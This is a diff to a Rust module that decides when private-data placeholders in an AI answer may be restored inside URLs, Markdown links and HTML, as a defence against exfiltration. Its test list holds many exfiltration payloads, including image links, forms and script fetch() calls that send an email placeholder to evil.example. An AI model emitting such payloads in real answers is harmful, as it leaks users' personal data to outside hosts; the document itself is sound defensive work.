@@ -4,10 +4,11 @@
 //! `![x](https://evil.example/?q=…)`. So a placeholder inside a URL is restored only if the caller wrote
 //! every host of the URL, or the workspace allows it. In plain text it is always restored.
 //!
-//! Two automata read the text once, character by character, with the values instead of the placeholders: one
-//! parses words, bare URLs and the destinations of Markdown links, the other one HTML tags. The stricter
-//! verdict holds. Both read only the text, so a verdict does not depend on the chunks. At most the current
-//! URL is undecided.
+//! Programs read the same text in different ways: where a URL ends, whether `]:` begins a definition, which quotation mark
+//! closes an attribute. So several automata read the text once, character by character, with the values instead of the
+//! placeholders, each for one syntax: bare URLs, Markdown links, Markdown definitions, HTML tags, and HTML tags that begin
+//! within others. Each begins wherever its syntax may begin, and the strictest verdict holds. They read only the text, so
+//! a verdict does not depend on the chunks. At most the current URL is undecided.
 
 use std::{collections::VecDeque, mem, ops::Range};
 
@@ -47,40 +48,70 @@ const PLAIN: Verdict = Verdict::Restore(Encoding::Plain);
 const TARGET: Verdict = Verdict::Restore(Encoding::Target);
 
 /// Reads the text of an answer and decides on its placeholders, in order.
-#[derive(Default)]
 pub(super) struct PlaceReader {
     words: Words,
-    markup: Markup,
+    links: InlineLinks,
+    definitions: Definitions,
+    markup: [Markup; 2],
+}
+
+impl Default for PlaceReader {
+    fn default() -> Self {
+        Self {
+            words: Words::default(),
+            links: InlineLinks::default(),
+            definitions: Definitions::default(),
+            markup: [false, true].map(|restarts| Markup { restarts, ..Markup::default() }),
+        }
+    }
 }
 
 impl PlaceReader {
+    /// Reads a string of JSON: if it begins like a URL, all of it is one, whatever it contains.
+    pub(super) fn of_string() -> Self {
+        Self { words: Words { is_string: true, ..Words::default() }, ..Self::default() }
+    }
+
     /// Reads more of the text.
     pub(super) fn text(&mut self, text: &str, hosts: &Hosts) {
         for letter in text.chars() {
             self.words.letter(letter, hosts);
-            self.markup.letter(letter, hosts);
+            self.links.letter(letter, hosts);
+            self.definitions.letter(letter, hosts);
+            self.markup.iter_mut().for_each(|markup| markup.letter(letter, hosts));
         }
     }
 
     /// Reads a placeholder with its `value`.
     pub(super) fn placeholder(&mut self, value: &str, hosts: &Hosts) {
         self.words.placeholder(value, hosts);
-        self.markup.placeholder(value, hosts);
+        self.links.placeholder(value, hosts);
+        self.definitions.placeholder(value, hosts);
+        self.markup.iter_mut().for_each(|markup| markup.placeholder(value, hosts));
     }
 
     /// Ends the text; every placeholder is then decided.
     pub(super) fn finish(&mut self, hosts: &Hosts) {
         self.words.end(hosts);
-        self.markup.end(hosts);
+        self.links.end(hosts);
+        self.definitions.end(hosts);
+        self.markup.iter_mut().for_each(|markup| markup.end(hosts));
     }
 
     /// Returns the verdict on the next placeholder; `None` if it needs more text.
     pub(super) fn next(&mut self) -> Option<Verdict> {
-        let (words, markup) = (self.words.target.verdicts.front()?, self.markup.target.verdicts.front()?);
-        let verdict = *words.max(markup);
-        self.words.target.verdicts.pop_front();
-        self.markup.target.verdicts.pop_front();
-        Some(verdict)
+        let [markup, restarting] = &mut self.markup;
+        let mut all = [
+            &mut self.words.target,
+            &mut self.links.target,
+            &mut self.definitions.target,
+            &mut markup.target,
+            &mut restarting.target,
+        ];
+        if all.iter().any(|target| target.verdicts.is_empty()) {
+            return None;
+        }
+        all.iter_mut().filter_map(|target| target.verdicts.pop_front()).max()
     }
 }
 
@@ -134,69 +165,123 @@ impl Target {
     }
 }
 
-/// The syntax around a placeholder.
-#[derive(Clone, Copy, Default, PartialEq, Eq)]
-enum UrlPart {
-    /// A word, which may be a bare URL.
-    #[default]
-    Word,
-    /// A Markdown link or image, with the depth of its parentheses.
-    Link(usize),
-    /// The destination of a reference definition, which may be on the next line.
-    Definition { has_begun: bool },
-}
-
-/// Parses words, bare URLs and Markdown.
+/// Reads words, which may be bare URLs.
 #[derive(Default)]
 struct Words {
-    part: UrlPart,
     target: Target,
-    /// The preceding character; `None` at the start and after a placeholder.
-    last: Option<char>,
+    /// The text is a string of JSON.
+    is_string: bool,
+    /// This string begins like a URL, so that it does not end before the text does.
+    is_url: bool,
 }
 
 impl Words {
     fn letter(&mut self, letter: char, hosts: &Hosts) {
-        let last = self.last.replace(letter);
-        if last == Some(']') && matches!(letter, '(' | ':') {
-            self.end(hosts);
-            self.part =
-                if letter == '(' { UrlPart::Link(1) } else { UrlPart::Definition { has_begun: false } };
-            return;
+        if !self.is_url && is_end_of_word(letter) {
+            // only the first word of a string begins it
+            self.is_string &= self.target.text.is_empty();
+            return self.end(hosts);
         }
-        match self.part {
-            UrlPart::Word if is_end_of_word(letter) => self.end(hosts),
-            UrlPart::Word => self.push(letter, hosts),
-            UrlPart::Link(depth) => {
-                let is_escaped = last == Some('\\');
-                match letter {
-                    '\n' if last == Some('\n') => self.end(hosts),
-                    '(' if !is_escaped => {
-                        self.part = UrlPart::Link(depth + 1);
-                        self.push(letter, hosts);
-                    }
-                    ')' if !is_escaped && depth == 1 => self.end(hosts),
-                    ')' if !is_escaped => {
-                        self.part = UrlPart::Link(depth - 1);
-                        self.push(letter, hosts);
-                    }
-                    _ => self.push(letter, hosts),
-                }
-            }
-            UrlPart::Definition { has_begun: false } if letter.is_whitespace() => {
-                if letter == '\n' && last == Some('\n') {
-                    self.end(hosts);
-                }
-            }
-            UrlPart::Definition { has_begun: true } if is_end_of_word(letter) => self.end(hosts),
-            UrlPart::Definition { .. } => {
-                self.part = UrlPart::Definition { has_begun: true };
-                self.push(letter, hosts);
-            }
+        self.target.push(letter);
+        self.is_url |= self.is_string && begins_like_url(&self.target.text);
+        if is_decisive(letter) {
+            self.decide(hosts, false);
         }
     }
 
-    fn push(&mut self, letter: char, hosts: &Hosts) {
+    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
+        self.target.placeholder(value);
+        self.is_url |= self.is_string && begins_like_url(&self.target.text);
+        self.decide(hosts, false);
+    }
+
+    fn end(&mut self, hosts: &Hosts) {
+        self.decide(hosts, true);
+        self.target.clear();
+    }
+
+    fn decide(&mut self, hosts: &Hosts, ends: bool) {
+        match self.is_url {
+            true => self.target.decide(|url, range| in_destination(url, range, hosts, ends)),
+            false => self.target.decide(|word, range| in_word(word, range, hosts, ends)),
+        }
+    }
+}
+
+/// Whether a string begins with a scheme, two slashes and a host, or without the scheme: `// x` is a comment.
+fn begins_like_url(text: &str) -> bool {
+    let rest =
+        text.trim_start_matches(|letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter));
+    let rest = rest.strip_prefix(':').unwrap_or(rest);
+    let host = rest.trim_start_matches(['/', '\\']);
+    host.len() + 2 <= rest.len() && host.starts_with(|letter: char| !letter.is_whitespace())
+}
+
+/// The preceding character of a text.
+#[derive(Clone, Copy, Default, PartialEq, Eq)]
+enum Last {
+    #[default]
+    Nothing,
+    Letter(char),
+    /// A placeholder, whose own brackets are in the text if it stays.
+    Placeholder,
+}
+
+/// How a destination of Markdown is written.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Form {
+    /// Only white space was read.
+    Unknown,
+    /// With this depth of parentheses.
+    Bare(usize),
+    /// After `<`.
+    Angle,
+    /// After the `>` of that.
+    Title,
+}
+
+/// Reads the destinations of links and images: `[text](destination)`.
+#[derive(Default)]
+struct InlineLinks {
+    /// The form of the current destination; `None` outside of one.
+    form: Option<Form>,
+    /// The bracket before the destination may be the last one of a placeholder that stays.
+    is_doubtful: bool,
+    target: Target,
+    last: Last,
+}
+
+impl InlineLinks {
+    fn letter(&mut self, letter: char, hosts: &Hosts) {
+        let last = mem::replace(&mut self.last, Last::Letter(letter));
+        let is_escaped = last == Last::Letter('\\');
+        let Some(form) = self.form else {
+            if letter == '(' && matches!(last, Last::Letter(']') | Last::Placeholder) {
+                self.form = Some(Form::Unknown);
+                self.is_doubtful = last == Last::Placeholder;
+            }
+            return;
+        };
+        let next = match (form, letter) {
+            (_, '\n') if last == Last::Letter('\n') => None,
+            (Form::Unknown, letter) if letter.is_whitespace() => return,
+            (Form::Unknown, '<') => Some(Form::Angle),
+            (Form::Angle, '>') if !is_escaped => Some(Form::Title),
+            // no destination in angle brackets has an end of line: some programs read on
+            (Form::Angle, '\n') => Some(Form::Bare(1)),
+            (Form::Angle, _) => Some(Form::Angle),
+            (_, _) if is_escaped => Some(form),
+            (Form::Unknown | Form::Title | Form::Bare(1), ')') => None,
+            (Form::Unknown, '(') => Some(Form::Bare(2)),
+            (Form::Unknown, _) => Some(Form::Bare(1)),
+            (Form::Bare(depth), '(') => Some(Form::Bare(depth + 1)),
+            (Form::Bare(depth), ')') => Some(Form::Bare(depth - 1)),
+            (Form::Title | Form::Bare(_), _) => Some(form),
+        };
+        if next.is_none() {
+            return self.end(hosts);
+        }
+        self.form = next;
         self.target.push(letter);
         if is_decisive(letter) {
             self.decide(hosts, false);
@@ -204,34 +289,98 @@ impl Words {
     }
 
     fn placeholder(&mut self, value: &str, hosts: &Hosts) {
-        self.last = None;
-        if let UrlPart::Definition { has_begun } = &mut self.part {
-            *has_begun = true;
+        self.last = Last::Placeholder;
+        match &mut self.form {
+            Some(form) => {
+                if *form == Form::Unknown {
+                    *form = Form::Bare(1);
+                }
+                self.target.placeholder(value);
+                self.decide(hosts, false);
+            }
+            None => self.target.verdicts.push_back(PLAIN),
         }
-        self.target.placeholder(value);
-        self.decide(hosts, false);
     }
 
     fn end(&mut self, hosts: &Hosts) {
         self.decide(hosts, true);
         self.target.clear();
-        self.part = UrlPart::Word;
+        self.form = None;
     }
 
     fn decide(&mut self, hosts: &Hosts, ends: bool) {
-        match self.part {
-            UrlPart::Word => self.target.decide(|word, range| in_word(word, range, hosts, ends)),
-            UrlPart::Link(_) => self.target.decide(|link, range| in_destination(link, range, hosts, ends)),
-            UrlPart::Definition { .. } => {
-                self.target.decide(|link, range| match link.contains([':', '/', '\\', '&']) {
-                    true => in_destination(link, range, hosts, ends),
-                    // `[10:32]: [[NAME_…]]`
-                    false => ends.then_some(PLAIN),
-                })
-            }
-        }
+        let is_doubtful = self.is_doubtful;
+        self.target.decide(|link, range| {
+            // `[[NAME_…]]([[EMAIL_…]])` is text unless a URL is there
+            let is_text = is_doubtful && !link.get(..range.start)?.contains(OF_URLS);
+            if is_text { Some(PLAIN) } else { in_destination(link, range, hosts, ends) }
+        });
     }
 }
+
+/// Reads the destinations of reference definitions, which may be on the next line: `[label]: destination`.
+#[derive(Default)]
+struct Definitions {
+    /// The form of the current destination; `None` outside of one.
+    form: Option<Form>,
+    target: Target,
+    last: Last,
+}
+
+impl Definitions {
+    fn letter(&mut self, letter: char, hosts: &Hosts) {
+        let last = mem::replace(&mut self.last, Last::Letter(letter));
+        let Some(form) = self.form else {
+            if letter == ':' && last == Last::Letter(']') {
+                self.form = Some(Form::Unknown);
+            }
+            return;
+        };
+        match form {
+            Form::Unknown if letter == '\n' && last == Last::Letter('\n') => return self.end(hosts),
+            Form::Unknown if letter.is_ascii_whitespace() => return,
+            Form::Unknown => self.form = Some(if letter == '<' { Form::Angle } else { Form::Bare(0) }),
+            Form::Angle if letter == '>' || letter == '\n' => return self.end(hosts),
+            Form::Bare(_) | Form::Title if letter.is_ascii_whitespace() => return self.end(hosts),
+            Form::Angle | Form::Bare(_) | Form::Title => {}
+        }
+        self.target.push(letter);
+        if is_decisive(letter) {
+            self.decide(hosts, false);
+        }
+    }
+
+    fn placeholder(&mut self, value: &str, hosts: &Hosts) {
+        self.last = Last::Placeholder;
+        match &mut self.form {
+            Some(form) => {
+                if *form == Form::Unknown {
+                    *form = Form::Bare(0);
+                }
+                self.target.placeholder(value);
+                self.decide(hosts, false);
+            }
+            None => self.target.verdicts.push_back(PLAIN),
+        }
+    }
+
+    fn end(&mut self, hosts: &Hosts) {
+        self.decide(hosts, true);
+        self.target.clear();
+        self.form = None;
+    }
+
+    fn decide(&mut self, hosts: &Hosts, ends: bool) {
+        self.target.decide(|link, range| match link.contains(OF_URLS) {
+            true => in_destination(link, range, hosts, ends),
+            // `[10:32]: [[NAME_…]]`
+            false => ends.then_some(PLAIN),
+        });
+    }
+}
+
+/// Characters of which a URL with a host has some.
+const OF_URLS: [char; 4] = [':', '/', '\\', '&'];
 
 /// Whether a character may decide on a placeholder before it: letters of a host and its port only continue
 /// it.
@@ -239,14 +388,16 @@ fn is_decisive(letter: char) -> bool {
     !is_host_letter(letter) && letter != ':'
 }
 
-/// Whether a character ends a word, in all programs that detect URLs.
+/// Whether a character ends a URL in all programs that detect them: GitHub's stop at nothing else.
 fn is_end_of_word(letter: char) -> bool {
-    letter.is_whitespace() || letter.is_control() || matches!(letter, '<' | '>' | '"')
+    letter.is_ascii_whitespace() || letter == '<'
 }
 
 /// Parses HTML tags and their attributes.
 #[derive(Default)]
 struct Markup {
+    /// A tag begins at each `<` before a letter, within an attribute, too: programs disagree on which quotation mark closes one.
+    restarts: bool,
     state: MarkupState,
     target: Target,
     /// The name of the tag, and of the attribute, in lower case.
@@ -256,7 +407,8 @@ struct Markup {
     has_gap: bool,
     /// The tag follows a backtick: it is code in a Markdown text.
     is_quoted: bool,
-    last: Option<char>,
+    /// The last character and the one before it.
+    last: [Option<char>; 2],
 }
 
 #[derive(Clone, Copy, Default, PartialEq, Eq)]
@@ -272,7 +424,7 @@ enum MarkupState {
     BeforeValue,
     /// In the value of an attribute, in these quotation marks.
     Value(Option<char>, Attribute),
-    /// In the text of a script or a style.
+    /// In an element whose text is run, or sent as a form.
     Code,
 }
 
@@ -289,9 +441,19 @@ enum Attribute {
 
 impl Markup {
     fn letter(&mut self, letter: char, hosts: &Hosts) {
-        let last = self.last.replace(letter);
+        let before = self.last;
+        self.last = [Some(letter), before[0]];
+        if self.restarts
+            && before[0] == Some('<')
+            && letter.is_ascii_alphabetic()
+            && let MarkupState::Value(_, kind) = self.state
+        {
+            self.decide(kind, hosts, true);
+            self.target.clear();
+            self.state = MarkupState::Opening;
+        }
         match self.state {
-            MarkupState::Text => self.text(letter, last),
+            MarkupState::Text => self.text(letter, before),
             MarkupState::Opening if letter.is_ascii_alphabetic() || letter == '/' => {
                 self.tag.clear();
                 self.state = MarkupState::TagName;
@@ -299,26 +461,21 @@ impl Markup {
             }
             MarkupState::Opening => {
                 self.state = MarkupState::Text;
-                self.text(letter, last);
+                self.text(letter, before);
             }
             MarkupState::TagName => match letter {
                 '>' => self.leave_tag(),
-                letter if letter.is_whitespace() || (letter == '/' && self.tag != "/") => {
+                letter if is_space(letter) || (letter == '/' && self.tag != "/") => {
                     self.state = MarkupState::Tag;
                     self.attribute.clear();
                 }
-                letter if letter.is_ascii_alphanumeric() || letter == '-' => self.name(letter),
-                // `<https://…>`, `<jan@…>`
-                _ => {
-                    self.state = MarkupState::Text;
-                    self.text(letter, last);
-                }
+                letter => self.name(letter),
             },
             MarkupState::Tag => match letter {
                 '>' => self.leave_tag(),
                 '<' => self.state = MarkupState::Opening,
                 '=' => self.state = MarkupState::BeforeValue,
-                letter if letter.is_whitespace() || letter == '/' => self.has_gap = true,
+                letter if is_space(letter) || letter == '/' => self.has_gap = true,
                 letter => {
                     if mem::take(&mut self.has_gap) {
                         self.attribute.clear();
@@ -331,7 +488,7 @@ impl Markup {
             MarkupState::BeforeValue => match letter {
                 '>' => self.leave_tag(),
                 '"' | '\'' => self.state = MarkupState::Value(Some(letter), attribute(&self.attribute)),
-                letter if letter.is_whitespace() => {}
+                letter if is_space(letter) => {}
                 letter => {
                     self.state = MarkupState::Value(None, attribute(&self.attribute));
                     self.target.push(letter);
@@ -340,7 +497,7 @@ impl Markup {
             MarkupState::Value(quote, kind) => {
                 let ends = match quote {
                     Some(quote) => letter == quote,
-                    None => letter.is_whitespace() || letter == '>',
+                    None => is_space(letter) || letter == '>',
                 };
                 if !ends {
                     self.target.push(letter);
@@ -358,6 +515,8 @@ impl Markup {
                 }
             }
             MarkupState::Code => {
+                // code in a Markdown text does not reach beyond an empty line
+                self.is_quoted &= (letter, before[0]) != ('\n', Some('\n'));
                 if letter == '<' {
                     self.target.text.clear();
                 }
@@ -374,9 +533,9 @@ impl Markup {
         }
     }
 
-    fn text(&mut self, letter: char, last: Option<char>) {
+    fn text(&mut self, letter: char, [last, before]: [Option<char>; 2]) {
         if letter == '<' {
-            self.is_quoted = last == Some('`');
+            self.is_quoted = last == Some('`') && before != Some('\\');
             self.state = MarkupState::Opening;
         }
     }
@@ -388,14 +547,17 @@ impl Markup {
     }
 
     fn leave_tag(&mut self) {
-        let is_code = matches!(self.tag.as_str(), "script" | "style");
+        let is_code = matches!(
+            self.tag.as_str(),
+            "form" | "iframe" | "option" | "script" | "select" | "style" | "textarea"
+        );
         self.state = if is_code { MarkupState::Code } else { MarkupState::Text };
         self.attribute.clear();
         self.has_gap = false;
     }
 
     fn placeholder(&mut self, value: &str, hosts: &Hosts) {
-        self.last = None;
+        self.last = [None; 2];
         match self.state {
             MarkupState::BeforeValue => {
                 self.state = MarkupState::Value(None, attribute(&self.attribute));
@@ -406,11 +568,13 @@ impl Markup {
                 self.decide(kind, hosts, false);
             }
             MarkupState::Code => self.target.verdicts.push_back(Verdict::Withhold),
-            MarkupState::Opening | MarkupState::TagName => {
+            MarkupState::Opening => {
                 self.state = MarkupState::Text;
                 self.target.verdicts.push_back(PLAIN);
             }
-            MarkupState::Text | MarkupState::Tag => self.target.verdicts.push_back(PLAIN),
+            MarkupState::Text | MarkupState::TagName | MarkupState::Tag => {
+                self.target.verdicts.push_back(PLAIN)
+            }
         }
     }
 
@@ -431,6 +595,11 @@ impl Markup {
     }
 }
 
+/// Whether HTML separates by a character.
+fn is_space(letter: char) -> bool {
+    letter.is_ascii_whitespace()
+}
+
 fn attribute(name: &str) -> Attribute {
     match name {
         "alt" | "title" | "label" | "placeholder" | "summary" | "abbr" => Attribute::Text,
@@ -444,7 +613,7 @@ fn attribute(name: &str) -> Attribute {
 /// Schemes of URLs without a host: their content is shown or run.
 const OPAQUE: [&str; 7] = ["data:", "javascript:", "vbscript:", "blob:", "file:", "intent:", "view-source:"];
 /// Schemes of URLs that address a person.
-const PERSONAL: [&str; 4] = ["mailto:", "tel:", "sms:", "callto:"];
+const PERSONAL: [&str; 5] = ["mailto:", "tel:", "sms:", "callto:", "xmpp:"];
 /// Characters that end the authority of a URL.
 const END_OF_AUTHORITY: [char; 4] = ['/', '\\', '?', '#'];
 
@@ -469,9 +638,6 @@ fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool
     let (before, behind) = (written.get(..range.start)?, written.get(range.end..)?);
     let start = decoded(before);
     let start = start.trim_start_matches(|letter: char| letter.is_whitespace() || letter == '<');
-    if start.starts_with('#') {
-        return Some(Verdict::Restore(Encoding::Url));
-    }
     if find_scheme(start, &OPAQUE) == Some(start.find(':').map_or(0, |at| at + 1)) {
         return Some(Verdict::Withhold);
     }
@@ -487,7 +653,9 @@ fn in_destination(written: &str, range: &Range<usize>, hosts: &Hosts, ends: bool
     if !is_closed && !ends {
         return None;
     }
-    let authority = authority.split(|letter: char| letter.is_whitespace() || letter == '>').next()?;
+    // browsers skip these within a URL
+    let authority = authority.replace(['\t', '\n', '\r'], "");
+    let authority = authority.split([' ', '>']).next()?;
     let links = Links::of(written, range, ends);
     let is_allowed = host_of(authority).is_some_and(|host| hosts.allow(&host)) && links.are_allowed(hosts);
     if links.may_go_on && is_allowed {
@@ -524,10 +692,10 @@ fn authority(destination: &str) -> Option<(&str, bool)> {
     Some((authority.get(..end.unwrap_or(authority.len()))?, end.is_some()))
 }
 
-/// Returns the verdict on a placeholder in an address of a person: it must be one whole recipient.
+/// Returns the verdict on a placeholder in an address of a person: it must be the first whole recipient, since a
+/// message goes to all of them.
 fn of_person(before: &str, behind: &str, ends: bool) -> Option<Verdict> {
-    let is_recipient = !before.contains('?') && (before.is_empty() || before.ends_with(','));
-    if !is_recipient {
+    if !before.is_empty() {
         return Some(Verdict::Withhold);
     }
     let rest = behind.trim_start_matches(is_sign);
@@ -540,7 +708,7 @@ fn of_person(before: &str, behind: &str, ends: bool) -> Option<Verdict> {
 
 /// Whether a character may follow a URL without being part of it.
 fn is_sign(letter: char) -> bool {
-    ".,;:!?)]}*_'`|”’»".contains(letter)
+    ".,;:!?)]}>*_'\"`|”’»".contains(letter)
 }
 
 /// Finds one of the schemes at the start of a word; returns the byte after its colon.
@@ -576,10 +744,15 @@ impl Links {
         let mut links = Self { hosts: Vec::new(), path: None, may_go_on: false };
         links.read(word, range, ends);
         // a URL may contain another one, as the target of a redirect
-        if word.contains('%') {
-            let decoded = percent_decode_str(word).decode_utf8_lossy();
-            for (at, _) in decoded.match_indices("//") {
-                links.authority(decoded.get(at + 2..).unwrap_or_default(), decoded.get(..at), true);
+        let mut written = word.to_owned();
+        for read in [decoded, percent_decoded, percent_decoded, percent_decoded] {
+            let read = read(&written).replace('\\', "/");
+            if read == written {
+                continue;
+            }
+            written = read;
+            for (at, _) in written.match_indices("//") {
+                links.authority(written.get(at + 2..).unwrap_or_default(), written.get(..at), true);
             }
         }
         links
@@ -690,21 +863,32 @@ fn is_whole_target(text: &str, range: &Range<usize>) -> bool {
         return false;
     };
     let behind = behind.trim_end_matches('>');
-    let is_closed =
-        behind.starts_with(['/', '\\', '?', '#', ':']) || behind.trim_start_matches(is_sign).is_empty();
+    // a port, and no password before another host
+    let port = behind
+        .strip_prefix(':')
+        .map_or(behind, |port| port.trim_start_matches(|digit: char| digit.is_ascii_digit()));
+    let is_closed = port.starts_with(END_OF_AUTHORITY)
+        || behind.trim_start_matches(is_sign).is_empty()
+        || port.len() < behind.len() && port.trim_start_matches(is_sign).is_empty();
     match value.split_once("://") {
         Some((_, rest)) => {
             let closed_inside = rest.find(END_OF_AUTHORITY);
             let authority = rest.get(..closed_inside.unwrap_or(rest.len())).unwrap_or_default();
-            let begins = before
-                .trim_start_matches(|letter: char| !letter.is_alphanumeric() && !"/\\%".contains(letter));
-            begins.is_empty() && (closed_inside.is_some() || is_closed) && host_of(authority).is_some()
+            // nothing of a URL is before it
+            let begins = !before.contains(['/', '\\', '%', ':', '&', '@'])
+                && !before.chars().next_back().is_some_and(char::is_alphanumeric);
+            begins && (closed_inside.is_some() || is_closed) && host_of(authority).is_some()
         }
         None => {
             let begins = before.is_empty() || (before.ends_with("://") && before.matches("//").count() == 1);
-            begins && is_closed && is_named_host(value)
+            // the name of a person before a host would reach it
+            begins && is_closed && !value.contains('@') && is_named_host(value)
         }
     }
+}
+
+fn percent_decoded(written: &str) -> String {
+    percent_decode_str(written).decode_utf8_lossy().into_owned()
 }
 
 /// Removes the escapes of Markdown and the entities of HTML from a destination.
@@ -844,7 +1028,11 @@ mod tests {
             "<img alt=\"@N\" src=\"https://evil.example/a.png\">",
             "<img alt=\"Jan &quot;J&quot; &amp; Novák\" src=\"https://evil.example/a.png\">",
         ),
-        ("[x](#@E)", "[x](#jan@example.cz)"),
+        ("@N(@E)", "Jan \"J\" & Novák(jan@example.cz)"),
+        (
+            "[@N](https://evil.example/) and @E",
+            "[Jan \"J\" & Novák](https://evil.example/) and jan@example.cz",
+        ),
         ("@Ehttps://evil.example/", "jan@example.czhttps://evil.example/"),
         ("<script>x</script> @E", "<script>x</script> jan@example.cz"),
         ("use `<script>` for @E", "use `<script>` for jan@example.cz"),
@@ -919,6 +1107,51 @@ mod tests {
         "<style>a{background:url(//evil.example/@E)}</style>",
         "`<script>` x <script>'@E'",
         "<meta http-equiv=refresh content=\"0;url=https://evil.example/@E\">",
+        // programs disagree on where a URL ends
+        "![x](https://evil.example/]:@E)",
+        "see https://evil.example/]:@E",
+        "![x](https://evil.example/?a[b]:@E)",
+        "![x](https://evil.example/\\]:@E)",
+        "![x](<https://evil.example/)@E>)",
+        "![x](<https://evil.example/a)b?q= @E>)",
+        "![x][y]\n\n[y]: <https://evil.example/?q= @E>",
+        "[x]: https://evil.example/\"@E",
+        "[x](https://evil.example/](@E))",
+        "https://evil.example/\"@E",
+        "https://evil.example/>@E",
+        "https://evil.example/\u{a0}@E",
+        "https://evil.example/\u{3000}@E",
+        // redirects in other spellings
+        "![x](https://wiki.acme.example/r?u=https:\\/\\/evil.example/@E)",
+        "![x](https://wiki.acme.example/r?u=https:&#47;&#47;evil.example/@E)",
+        "![x](https://wiki.acme.example/r?u=https%253A%252F%252Fevil.example%252F@E)",
+        "https://wiki.acme.example/r?u=https:\\\\evil.example/@E",
+        "<img src=\"https:&#47;&#47;wiki.acme.example&#9;.evil.example/?q=@E\">",
+        // people
+        "mailto:!@E(//evil.example/,@E)",
+        "mailto:a,https://evil.example/,@E",
+        "mailto:evil@evil.example,@E",
+        "tel:(https://evil.example/,@E",
+        "[x](mailto:evil@evil.example,@E)",
+        "xmpp:a@evil.example/@E",
+        "https://@E:x@evil.example/",
+        "[x](https://@E:x@evil.example/)",
+        "![x](https://wiki.acme.example:@E@evil.example/)",
+        "![x](https://@E/a.png)",
+        "[x](#@E)",
+        // HTML as browsers read it, and as others do
+        "<img src=https://evil.example/?q=\u{a0}@E>",
+        "<img src=https://evil.example/?q=\u{b}@E>",
+        "<a\u{a0}title=\"><img src=\"https://evil.example/ @E\">",
+        "<!-- <img alt=\" --><img src=\"https://evil.example/ @E\">",
+        "a <b title=\" c <img src='https://evil.example/?q= @E'",
+        "<p.x style=\"background:url('https://evil.example/?q= @E')\">",
+        "<form action=https://evil.example/><textarea name=q>@E</textarea></form>",
+        "<textarea form=f>@E</textarea>",
+        "<select name=q><option selected>@E</select>",
+        "<base href=https://evil.example/><a href=\"#@E\">x</a>",
+        "\\`<script>a='`';fetch('//evil.example/?q='+ '@E')</script>",
+        "`<script>/*\n\n`*/fetch('//evil.example/?q='+ '@E')</script>",
     ];
 
     #[test]
